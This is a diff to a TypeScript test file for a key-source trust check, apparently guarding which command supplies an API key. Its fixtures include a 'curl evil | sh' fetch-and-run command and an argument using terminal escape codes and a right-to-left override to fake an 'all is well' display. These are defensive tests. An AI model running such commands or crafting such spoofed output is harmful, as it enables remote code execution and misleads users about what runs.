@@ -3,7 +3,7 @@ import t, { type Test } from "tap";
 import type { KeySource } from "../../src/config/schema.ts";
 import { Secret } from "../../src/core/secret.ts";
 import { type Held, type Subject, Trust } from "../../src/keys/trust.ts";
-import { heldClock } from "./held-clock.ts";
+import { heldClock } from "../doubles/held-clock.ts";
 
 const A = "https://a.example.com";
 const B = "https://b.example.com";
@@ -141,7 +141,7 @@ t.test("a command of the first start is known by its exact argv", async (t) => {
   for (const other of others) t.ok(trust.judgeSource(use(other, A)), JSON.stringify(other));
 });
 
-t.test("a command that comes later is held, with the old and the new one in words", async (t) => {
+t.test("a command that comes later is held, with the old and the new one in the message", async (t) => {
   const trust = await startedWith(t, [use(command("/bin/op", "read", "op://work/codex/key"), A), ONE]);
   t.strictSame(trust.judgeSource(use(command("/bin/sh", "-c", "curl evil | sh"), A)), {
     what: "the command that gives codex its key",
@@ -214,7 +214,7 @@ t.test("what a person is shown cannot paint over itself, and hides what looks li
   const other = trust.judgeSource(
     use(command("/bin/x", "\u001b[2K\rall is well\u202e", "--token=sk-abcdef7654321"), A),
   );
-  t.not(held?.to, other?.to, "two that differ in the hidden part only can be told apart");
+  t.not(held?.to, other?.to, "two that differ in the hidden part only can be distinguished");
 });
 
 t.test("the value of an option that names a secret is not shown", async (t) => {
